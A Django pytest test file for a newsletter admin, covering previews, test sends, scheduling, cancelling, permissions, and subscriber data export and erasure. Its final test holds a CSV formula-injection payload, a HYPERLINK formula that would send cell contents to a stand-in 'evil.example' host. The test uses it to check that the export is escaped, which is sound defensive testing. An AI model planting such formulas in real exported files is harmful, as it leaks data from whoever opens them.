import json

import pytest
from django.urls import reverse

from newsletters import sending, subscriptions
from newsletters.models import Delivery, ErasedAddress, Send, Subscriber
from newsletters.tasks import send_test_task
from tests.helpers import log_in_with_second_factor
from tests.newsletters.factories import IssueFactory, NewsletterFactory, subscribe

pytestmark = pytest.mark.django_db


@pytest.fixture
def issue():
    newsletter = NewsletterFactory()
    subscribe(newsletter, 3)
    return IssueFactory(newsletter=newsletter, title="Newsletter - Spring 2020")


def test_previews_show_the_email_as_a_recipient_sees_it(staff_client, issue):
    html = staff_client.get(reverse("admin:newsletters_issue_preview", args=[issue.pk, "html"]))
    text = staff_client.get(reverse("admin:newsletters_issue_preview", args=[issue.pk, "text"]))
    web = staff_client.get(reverse("admin:newsletters_issue_preview", args=[issue.pk, "web"]))

    assert "View this email in your browser" in html.content.decode()
    assert (
        text["Content-Type"].startswith("text/plain")
        and "Unsubscribe: http" in text.content.decode()
    )
    assert "Annual conference" in web.content.decode()


def test_a_test_send_is_queued_for_the_given_addresses(
    staff_client, issue, django_capture_on_commit_callbacks, tasks
):
    queued = tasks.view(send_test_task.name, lambda task: task.args)
    url = reverse("admin:newsletters_issue_test_send", args=[issue.pk])

    bad = staff_client.post(url, {"emails": "editor@example.com, not-an-address"})
    with django_capture_on_commit_callbacks(execute=True):
        good = staff_client.post(url, {"emails": "editor@example.com\nchair@example.com"})

    assert "Not an email address: not-an-address" in bad.content.decode()
    assert good.status_code == 302
    assert queued == [(issue.pk, issue.newsletter_id, ["editor@example.com", "chair@example.com"])]


def test_sending_asks_for_confirmation_with_the_recipient_count(
    staff_client, issue, django_capture_on_commit_callbacks
):
    url = reverse("admin:newsletters_issue_send", args=[issue.pk])
    data = {"newsletter": issue.newsletter_id, "when": "now"}

    page = staff_client.post(url, data)
    assert "Yes, send to 3 recipients" in page.content.decode()
    assert not Send.objects.exists()

    with django_capture_on_commit_callbacks() as callbacks:
        staff_client.post(url, {**data, "confirm": "1"})
    assert Send.objects.count() == 1 and len(callbacks) == 1

    again = staff_client.post(url, {**data, "confirm": "1"}, follow=True)
    assert "already been sent or scheduled" in again.content.decode()
    assert Send.objects.count() == 1


def test_scheduling_in_the_past_is_a_form_error(staff_client, issue):
    response = staff_client.post(
        reverse("admin:newsletters_issue_send", args=[issue.pk]),
        {"newsletter": issue.newsletter_id, "when": "later", "scheduled_at": "2020-01-01T09:00"},
    )

    assert "Choose a time in the future." in response.content.decode()
    assert not Send.objects.exists()


def test_progress_pause_and_resume(staff_client, issue):

    send = Send.objects.create(issue=issue, newsletter=issue.newsletter)
    sending.start_send(send_id=send.pk)

    progress = staff_client.get(reverse("admin:newsletters_send_progress", args=[send.pk])).json()
    assert (progress["total"], progress["remaining"], progress["status"]) == (3, 3, "sending")

    staff_client.post(progress["control_url"])
    send.refresh_from_db()
    assert send.status == Send.Status.PAUSED
    assert staff_client.get(progress["control_url"]).status_code == 403  # only POST changes state


def test_subscriber_data_export_and_erasure(staff_client, issue):
    subscriber = Subscriber.objects.first()
    send = Send.objects.create(issue=issue, newsletter=issue.newsletter)
    Delivery.objects.create(send=send, subscriber=subscriber, email=subscriber.email)
    url = reverse("admin:newsletters_subscriber_changelist")

    exported = staff_client.post(
        url, {"action": "export_json", "_selected_action": [subscriber.pk]}
    )
    data = json.loads(exported.content)
    assert (
        data[0]["email"] == subscriber.email
        and data[0]["subscriptions"][0]["list"] == "TASP Newsletter"
    )
    assert data[0]["emails_sent"] == [
        {
            "issue": "Newsletter - Spring 2020",
            "list": "TASP Newsletter",
            "status": "queued",
            "sent_at": None,
        }
    ]
    assert data[0]["created_at"]

    staff_client.post(url, {"action": "erase", "_selected_action": [subscriber.pk]})
    assert not Subscriber.objects.filter(pk=subscriber.pk).exists()
    assert not Delivery.objects.filter(email=subscriber.email).exists()
    assert ErasedAddress.objects.of(subscriber.email.upper()).exists()  # a digest, no address
    assert subscriber.email not in str(list(ErasedAddress.objects.values()))


def test_an_erased_person_is_not_added_back_by_membership_or_import(issue):
    from newsletters.imports import import_subscribers

    erased = Subscriber.objects.first()
    subscriptions.erase_subscribers(subscribers=Subscriber.objects.filter(pk=erased.pk))

    assert (
        subscriptions.subscribe_member(
            email=erased.email, name="Back", organisation="X", newsletter=issue.newsletter
        )
        is None
    )
    report = import_subscribers(
        data=f"Email Address,First Name\n{erased.email},Back\n".encode(),
        newsletter=issue.newsletter,
        basis=Subscriber.Basis.CONSENT,
        dry_run=False,
    )
    assert report.rejected and "Erased at their request" in report.rejected[0][2]
    assert not Subscriber.objects.filter(email=erased.email).exists()


def test_erasing_needs_delete_permission(client, issue, django_user_model):
    from django.contrib.auth.models import Permission

    viewer = django_user_model.objects.create_user(
        email="viewer@example.org", password="a-long-viewer-pass", is_staff=True
    )
    viewer.user_permissions.add(Permission.objects.get(codename="view_subscriber"))
    log_in_with_second_factor(client, viewer)
    subscriber = Subscriber.objects.first()

    client.post(
        reverse("admin:newsletters_subscriber_changelist"),
        {"action": "erase", "_selected_action": [subscriber.pk]},
    )

    assert Subscriber.objects.filter(pk=subscriber.pk).exists()


def test_staff_pages_need_staff(client, user, issue):
    client.force_login(user)

    response = client.get(reverse("admin:newsletters_issue_preview", args=[issue.pk, "html"]))

    assert response.status_code == 302 and "/admin/login/" in response.url


def test_staff_cancel_a_scheduled_send_and_may_schedule_the_issue_again(staff_client, issue):
    from datetime import timedelta

    from django.utils import timezone

    from newsletters.models import Issue

    later = timezone.now() + timedelta(days=1)
    send = sending.schedule_send(issue=issue, newsletter=issue.newsletter, at=later)
    progress = staff_client.get(reverse("admin:newsletters_send_progress", args=[send.pk])).json()
    assert progress["control_url"].endswith("/cancel/")

    staff_client.post(progress["control_url"])

    send.refresh_from_db()
    issue.refresh_from_db()
    assert send.status == Send.Status.CANCELLED
    assert issue.status == Issue.Status.DRAFT
    assert sending.start_due_sends(now=later + timedelta(minutes=1)) == 0  # it never starts
    again = sending.schedule_send(issue=issue, newsletter=issue.newsletter, at=later)
    assert again.status == Send.Status.SCHEDULED


def test_a_started_send_cannot_be_cancelled_or_deleted(staff_client, issue):

    send = sending.schedule_send(issue=issue, newsletter=issue.newsletter)
    sending.start_send(send_id=send.pk)

    assert sending.cancel_send(send=send) is False
    staff_client.post(
        reverse("admin:newsletters_send_changelist"),
        {"action": "delete_selected", "_selected_action": [send.pk], "post": "yes"},
    )
    send.refresh_from_db()
    assert send.status == Send.Status.SENDING
    assert (
        staff_client.get(reverse("admin:newsletters_send_delete", args=[send.pk])).status_code
        == 403
    )


def test_a_subscriber_named_like_a_formula_exports_as_text(rf, staff_user):
    import csv

    from django.contrib import admin

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    subscribe(NewsletterFactory(), 1, name=formula, organisation="@SUM(A1:A9)")
    request = rf.post("/admin/newsletters/subscriber/")
    request.user = staff_user

    response = admin.site._registry[Subscriber].export_csv(request, Subscriber.objects.all())

    [header, row] = list(csv.reader(response.content.decode().splitlines()))
    assert header[1:3] == ["Name", "Organisation"]
    assert row[1:3] == [f"'{formula}", "'@SUM(A1:A9)"]
